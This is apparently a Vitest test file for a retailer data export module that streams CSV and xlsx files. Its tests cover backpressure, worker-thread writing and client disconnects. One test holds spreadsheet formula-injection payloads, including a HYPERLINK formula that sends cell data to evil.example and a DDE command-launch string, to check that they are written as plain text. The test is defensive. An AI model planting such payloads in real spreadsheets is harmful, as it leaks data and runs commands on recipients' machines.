// The export writers read the next page only when the client has taken what
// was sent: a client that stops reading holds the server at a page or two,
// and one that reads on gets every row of a valid file.
import { describe, expect, it } from 'vitest';
import type { Readable } from 'node:stream';
import { setTimeout as sleep } from 'node:timers/promises';
import ExcelJS from 'exceljs';
import { FILE_COLUMNS, type Cell } from '../domain/retailers/import-columns.js';
import { parseCsv } from '../domain/retailers/import-rows.js';
import { csvStream, xlsxStream } from './retailer-file-writers.js';

const PAGES = 8;
const ROWS = 1000;

/** Pages of varied rows (poorly compressible, like real files), counting how many were asked for. */
function pages() {
  const counter = { pulled: 0 };
  let seed = 7;
  const rnd = () => (seed = (seed * 48271) % 2147483647);
  async function* gen(): AsyncGenerator<Cell[][]> {
    for (let p = 0; p < PAGES; p++) {
      counter.pulled++;
      yield Array.from({ length: ROWS }, (_, i) =>
        FILE_COLUMNS.map((c, j) => (j === 0 ? String(100000000000 + p * ROWS + i) : `${c.header}${rnd().toString(36)}${rnd().toString(36)}`)),
      );
    }
  }
  return { counter, iterable: gen() };
}

async function readAll(stream: Readable): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const c of stream) chunks.push(c as Buffer);
  return Buffer.concat(chunks);
}

describe('export streams', () => {
  it('CSV: a client that does not read holds it at a page; reading on gets every row in order', async () => {
    const { counter, iterable } = pages();
    const stream = csvStream(iterable);
    stream.pause();
    stream.read(0); // start, as a socket's first pull would
    await sleep(300);
    expect(counter.pulled).toBeLessThanOrEqual(2);
    const rows = parseCsv((await readAll(stream)).toString('utf8'));
    expect(counter.pulled).toBe(PAGES);
    expect(rows).toHaveLength(1 + PAGES * ROWS);
    expect(rows.slice(1).map((r) => Number(r[0]) - 100000000000)).toEqual(Array.from({ length: PAGES * ROWS }, (_, i) => i));
    }, 60_000);

  it('xlsx: a client that does not read holds it at a few pages; reading on gets a valid workbook of every row', async () => {
    const { counter, iterable } = pages();
    const stream = xlsxStream(iterable);
    stream.pause();
    await sleep(500);
    expect(counter.pulled).toBeLessThanOrEqual(3);
    const file = await readAll(stream);
    expect(counter.pulled).toBe(PAGES);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file as unknown as ExcelJS.Buffer);
    const ws = wb.getWorksheet('零售户')!;
    expect(ws.rowCount).toBe(1 + PAGES * ROWS);
    expect(ws.getRow(1).getCell(1).value).toBe(FILE_COLUMNS[0].header);
    expect(ws.getRow(1).font?.bold).toBe(true);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.getRow(2 + 4321).getCell(1).value).toBe(String(100000000000 + 4321));
    expect(ws.getRow(1 + PAGES * ROWS).getCell(1).value).toBe(String(100000000000 + PAGES * ROWS - 1));
  }, 180_000);

  it('xlsx: the workbook is written in a worker thread, never on the thread that serves requests (decision 0913)', async () => {
    // Count the workbook writers made on this thread (a spy would break ExcelJS's constructor).
    const streams = ExcelJS.stream.xlsx as unknown as { WorkbookWriter: new (...a: unknown[]) => object };
    const Original = streams.WorkbookWriter;
    let made = 0;
    streams.WorkbookWriter = class extends Original {
      constructor(...a: unknown[]) {
        super(...a);
        made++;
      }
    };
    try {
      const { iterable } = pages();
      const file = await readAll(xlsxStream(iterable));
      expect(file.subarray(0, 2).toString()).toBe('PK');
      expect(made).toBe(0);
    } finally {
      streams.WorkbookWriter = Original;
    }
  }, 180_000);

  it('xlsx: formula-like text is written as text, not as a formula', async () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", '+1+1', '@SUM(1,2)'];
    async function* one(): AsyncGenerator<Cell[][]> {
      yield names.map((n, i) => FILE_COLUMNS.map((_, j) => (j === 0 ? String(i) : j === 2 ? n : '')));
    }
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await readAll(xlsxStream(one()))) as unknown as ExcelJS.Buffer);
    const ws = wb.getWorksheet('零售户')!;
    const cells = names.map((_, i) => ws.getRow(2 + i).getCell(3));
    expect(cells.map((c) => c.value)).toEqual(names);
    expect(cells.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
  }, 180_000);

  it('xlsx: a client that goes away stops the page reads', async () => {
    const { counter, iterable } = pages();
    const stream = xlsxStream(iterable);
    await new Promise((r) => stream.once('data', r));
    stream.destroy();
    await sleep(500);
    expect(counter.pulled).toBeLessThanOrEqual(3);
  }, 180_000);
});
